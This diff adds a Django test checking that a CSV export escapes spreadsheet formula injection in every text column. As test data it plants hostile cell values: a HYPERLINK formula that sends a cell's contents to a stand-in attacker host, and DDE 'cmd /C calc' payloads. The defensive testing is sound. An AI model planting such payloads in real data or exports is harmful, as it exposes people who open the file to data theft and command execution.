@@ -190,3 +190,40 @@ def test_plan_part_is_for_county_staff_and_shows_the_checks(client, project, cou
 def test_unknown_project_part_is_404(client, project, county_staff):
     client.force_login(county_staff)
     assert client.get(reverse("projects:project-section", kwargs={"pk": project.pk, "section": "ukjent"})).status_code == 404
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_export_escapes_a_formula_in_every_text_column(client, county, county_staff, theme, municipality):
+    """Whoever can name a county, a theme, a person or a municipality can start a cell with a formula:
+    every cell of the export that starts like one is prefixed with an apostrophe, whatever column."""
+    from accounts.models import User
+    from municipalities.models import County, Municipality, Theme
+    from tests.factories import UserFactory
+
+    County.objects.filter(pk=county.pk).update(name='=HYPERLINK("http://angriper.example/?"&A1;"Klikk")')
+    Theme.objects.filter(pk=theme.pk).update(name="+cmd|' /C calc'!A0")
+    User.objects.filter(pk=county_staff.pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
+    second = UserFactory(name="-2+3")
+    Municipality.objects.filter(pk=municipality.pk).update(name="\t=1+1")
+    project = services.create_project(county=county, by=county_staff, title="\r=1+1", theme=theme, purpose="p",
+                                      start_on=date(2026, 1, 1), end_on=date(2026, 12, 31))
+    project.leaders.add(second)
+    services.invite_participants(project=project, municipalities=[municipality], by=county_staff)
+    services.create_project(county=county, by=county_staff, title="-Minus først; og «sitat» \"i\" tittelen", theme=theme,
+                            purpose="p", start_on=date(2026, 1, 1), end_on=date(2026, 1, 4))
+    client.force_login(county_staff)
+    rows = _export(client, sort="title")
+    assert len(rows) == 3
+    for row in rows:
+        for value in row:
+            assert not value.startswith(FORMULA_STARTS), (row, value)
+    by_title = {row[0]: row for row in rows[1:]}
+    hostile = by_title["'\r=1+1"]
+    assert hostile[2] == "'+cmd|' /C calc'!A0"
+    assert hostile[3] == "'=HYPERLINK(\"http://angriper.example/?\"&A1;\"Klikk\")"
+    assert hostile[6] in ("'@SUM(1+1)*cmd|' /C calc'!A0, -2+3", "'-2+3, @SUM(1+1)*cmd|' /C calc'!A0")
+    assert hostile[7] == "1" and hostile[4] == "01.01.2026"
+    quoted = by_title["'-Minus først; og «sitat» \"i\" tittelen"]  # semicolon and quotes survive the round trip
+    assert quoted[8] == "100,0"
